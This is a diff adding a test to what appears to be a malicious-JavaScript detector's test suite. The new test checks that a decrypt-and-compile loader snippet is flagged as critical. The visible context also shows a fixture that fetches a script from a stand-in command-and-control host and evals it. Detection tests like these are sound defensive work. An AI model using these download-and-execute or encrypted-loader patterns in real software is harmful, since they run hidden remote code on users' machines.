@@ -266,6 +266,17 @@ fetch('https://c2.attacker.invalid/3.js').then((r) => r.text()).then(eval);
         [("download-and-execute", 6), ("download-and-execute", 8), ("download-and-execute", 9)]
 
 
+def test_decrypted_payloads_and_module_compile() -> None:
+    code = """
+const crypto = require('crypto');
+const d = crypto.createDecipheriv('aes-256-cbc', Buffer.from(process.argv[2], 'hex'), Buffer.alloc(16));
+const src = d.update('8f3a0c', 'hex', 'utf8') + d.final('utf8');
+const m = new module.constructor();
+m._compile(src, '');
+"""
+    assert rules(code)["dynamic-code-execution"] is Severity.CRITICAL
+
+
 def test_harmless_dynamic_code_is_clean() -> None:
     code = """
 var g = Function('return this')();
